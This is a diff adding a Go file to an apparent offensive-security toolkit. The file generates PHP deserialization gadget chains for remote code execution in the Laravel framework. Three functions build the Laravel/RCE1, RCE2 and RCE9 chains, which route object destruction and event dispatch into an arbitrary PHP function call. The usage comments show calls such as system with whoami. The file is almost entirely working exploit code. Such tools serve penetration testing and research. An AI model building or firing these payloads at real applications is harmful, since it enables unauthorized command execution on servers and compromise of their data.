@@ -0,0 +1,64 @@
+package phpggc
+
+import (
+	"github.com/yaklang/yaklang/common/phpserx"
+)
+
+// pendingBroadcast is Illuminate\Broadcasting\PendingBroadcast, which calls $events->dispatch($event) in __destruct
+func pendingBroadcast(events phpserx.PHPSerializable, event phpserx.PHPSerializable) *phpserx.PHPObject {
+	return phpserx.NewPHPObject(`Illuminate\Broadcasting\PendingBroadcast`,
+		phpserx.NewPHPProtectedProperty("events", events),
+		phpserx.NewPHPProtectedProperty("event", event),
+	)
+}
+
+// GetLaravelRCE1Payload generate Laravel/RCE1 chain, Faker\Generator::__call('dispatch') calls function(parameter)
+// Example:
+// ```
+// payload = phpggc.GetLaravelRCE1Payload("system", "whoami")~
+// raw = phpggc.ToBytes(payload)~
+// ```
+func GetLaravelRCE1Payload(function string, parameter string) (*Payload, error) {
+	if err := checkFunction(function); err != nil {
+		return nil, err
+	}
+	generator := fakerGenerator("dispatch", phpserx.NewPHPString(function))
+	return newPayload("Laravel/RCE1", pendingBroadcast(generator, phpserx.NewPHPString(parameter))), nil
+}
+
+// GetLaravelRCE2Payload generate Laravel/RCE2 chain, the listener of event is the function, Dispatcher::dispatch calls function(parameter, [])
+// Example:
+// ```
+// payload = phpggc.GetLaravelRCE2Payload("system", "whoami")~
+// raw = phpggc.ToBytes(payload)~
+// ```
+func GetLaravelRCE2Payload(function string, parameter string) (*Payload, error) {
+	if err := checkFunction(function); err != nil {
+		return nil, err
+	}
+	dispatcher := phpserx.NewPHPObject(`Illuminate\Events\Dispatcher`,
+		phpserx.NewPHPProtectedProperty("listeners", phpserx.NewPHPArray(
+			phpserx.NewPHPArrayEntry(phpserx.NewPHPString(parameter), phpserx.NewPHPList(phpserx.NewPHPString(function))),
+		)),
+	)
+	return newPayload("Laravel/RCE2", pendingBroadcast(dispatcher, phpserx.NewPHPString(parameter))), nil
+}
+
+// GetLaravelRCE9Payload generate Laravel/RCE9 chain, BroadcastEvent should be queued, so Bus\Dispatcher calls queueResolver(connection)
+// Example:
+// ```
+// payload = phpggc.GetLaravelRCE9Payload("system", "whoami")~
+// raw = phpggc.ToBytes(payload)~
+// ```
+func GetLaravelRCE9Payload(function string, parameter string) (*Payload, error) {
+	if err := checkFunction(function); err != nil {
+		return nil, err
+	}
+	dispatcher := phpserx.NewPHPObject(`Illuminate\Bus\Dispatcher`,
+		phpserx.NewPHPProtectedProperty("queueResolver", phpserx.NewPHPString(function)),
+	)
+	event := phpserx.NewPHPObject(`Illuminate\Broadcasting\BroadcastEvent`,
+		phpserx.NewPHPProperty("connection", phpserx.NewPHPString(parameter)),
+	)
+	return newPayload("Laravel/RCE9", pendingBroadcast(dispatcher, event)), nil
+}